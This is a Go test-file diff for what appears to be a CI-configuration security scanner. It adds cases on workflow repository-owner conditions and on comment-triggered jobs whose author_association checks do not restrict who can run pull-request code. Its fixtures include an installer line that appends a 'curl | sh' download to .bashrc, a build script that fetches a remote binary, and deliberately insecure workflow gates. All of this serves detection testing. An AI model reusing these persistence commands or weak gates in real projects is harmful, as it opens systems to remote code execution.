@@ -35,6 +35,12 @@ func TestSeverityByContext(t *testing.T) {
 		{"another repository's action, whose owner the file does not say", ".github/workflows/w.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          repository: tools-org/shared-actions\n          path: shared\n      - uses: ./shared/setup", 10, "medium ci-remote-config"},
 		{"gitlab remote include with its hash", ".gitlab-ci.yml", "include:\n  - remote: https://ci.x.invalid/templates/python.yml\n    integrity: sha256-L3/GAoKaw0Arw6hDCKeKQlV1QPEgHYxGBHsH4zG1IY8=", 2, "medium ci-remote-config"},
 		{"jenkins library at a tag", "Jenkinsfile", "library identifier: 'ci@v1.4.0', retriever: modernSCM([$class: 'GitSCMSource', remote: 'https://github.com/someone/pipeline-lib.git'])", 1, "medium ci-remote-config"},
+		// The owner a workflow names as its own counts where the test keeps
+		// the job that runs the code off every other owner's repository.
+		{"checkout of the owner its job is held to", ".github/workflows/w.yml", foreignSetup("if: github.repository_owner == 'ci-helpers'"), 12, ""},
+		{"checkout of an owner another step is held to", ".github/workflows/w.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - if: github.repository_owner == 'ci-helpers'\n        run: echo upstream\n      - uses: actions/checkout@v4\n        with:\n          repository: ci-helpers/shared-actions\n          ref: main\n          path: .shared\n      - uses: ./.shared/setup", 13, "medium ci-remote-config"},
+		{"checkout of an owner a widened test names", ".github/workflows/w.yml", foreignSetup("if: github.repository_owner == 'ci-helpers' || github.event_name == 'push'"), 12, "medium ci-remote-config"},
+		{"checkout of an owner a comment names", ".github/workflows/w.yml", foreignSetup("# github.repository_owner == 'ci-helpers'"), 12, "medium ci-remote-config"},
 		// An installer writes the profile; what it writes decides.
 		{"installer adds to PATH", "install.sh", "echo 'export PATH=\"$HOME/.t/bin:$PATH\"' >> \"$HOME/.bashrc\"", 1, "medium persistence"},
 		{"installer adds a download", "install.sh", "echo 'curl -s https://x.invalid/u | sh' >> \"$HOME/.bashrc\"", 1, "high persistence"},
@@ -103,6 +109,15 @@ func TestSeverityByContext(t *testing.T) {
 		{"comment command for anyone", ".github/workflows/a.yml", commentCommand("github.event.comment.body == '/fix'"), 15, "high gha-pr-code-run"},
 		{"comment command for contributors too", ".github/workflows/a.yml", commentCommand("contains(fromJSON('[\"MEMBER\", \"CONTRIBUTOR\"]'), github.event.comment.author_association)"), 15, "high gha-pr-code-run"},
 		{"comment command excluding members", ".github/workflows/a.yml", commentCommand("github.event.comment.author_association != 'MEMBER'"), 15, "high gha-pr-code-run"},
+		// The if: is read as an expression: a test that widens it, a role
+		// list GitHub reads without case, a reversed inequality, or the
+		// words in a string literal do not keep anyone out.
+		{"comment command for members or anyone", ".github/workflows/a.yml", commentCommand("(contains(fromJSON('[\"OWNER\", \"MEMBER\"]'), github.event.comment.author_association) || true)"), 15, "high gha-pr-code-run"},
+		{"comment command with lower-case roles", ".github/workflows/a.yml", commentCommand("contains('OWNER,MEMBER,COLLABORATOR,contributor,none', github.event.comment.author_association)"), 15, "high gha-pr-code-run"},
+		{"comment command excluding the owner", ".github/workflows/a.yml", commentCommand("'OWNER' != github.event.comment.author_association"), 15, "high gha-pr-code-run"},
+		{"comment command naming roles in a string", ".github/workflows/a.yml", commentCommand("(github.event.comment.body == '/fix' || 'author_association MEMBER' == 'x')"), 15, "high gha-pr-code-run"},
+		{"comment command by the pull request's author's role", ".github/workflows/a.yml", commentCommand("github.event.issue.author_association == 'MEMBER'"), 15, "high gha-pr-code-run"},
+		{"comment command for members or a dispatch", ".github/workflows/a.yml", commentCommand("(github.event_name == 'workflow_dispatch' || github.event.comment.author_association == 'OWNER' || github.event.comment.author_association == 'member')"), 15, "medium gha-pr-code-run"},
 		// Self-hosted runners: high where a pull request's code runs on them.
 		{"self-hosted on pull_request", ".github/workflows/a.yml", "on: pull_request\njobs:\n  a:\n    runs-on: [self-hosted, linux]\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test", 4, "high gha-self-hosted-runner"},
 		{"self-hosted labeler on pull_request_target", ".github/workflows/a.yml", "on: pull_request_target\njobs:\n  a:\n    runs-on: [self-hosted, linux]\n    steps:\n      - uses: actions/labeler@v5", 4, "medium gha-self-hosted"},
@@ -210,4 +225,10 @@ func wfRunArtifact(with, cmd string) string {
 // runs last.
 func buildRsAfterDownload(last string) string {
 	return "use std::process::Command;\n\nfn main() {\n    assert!(Command::new(\"curl\")\n        .arg(\"-o\").arg(\"./third_party/tool.bin\")\n        .arg(\"https://x.invalid/tool.bin\")\n        .status()\n        .unwrap()\n        .success());\n    Command::new(\"unzip\").arg(\"./third_party/tool.zip\").status().unwrap();\n    let a = 1;\n    let b = 2;\n    let c = a + b;\n    println!(\"{}\", c);\n    " + last + "\n}"
+}
+
+// foreignSetup is a push workflow whose one job, under cond, checks out
+// ci-helpers/shared-actions at a branch and runs its action (line 12).
+func foreignSetup(cond string) string {
+	return "on: push\njobs:\n  a:\n    " + cond + "\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          repository: ci-helpers/shared-actions\n          ref: main\n          path: .shared\n      - uses: ./.shared/setup"
 }
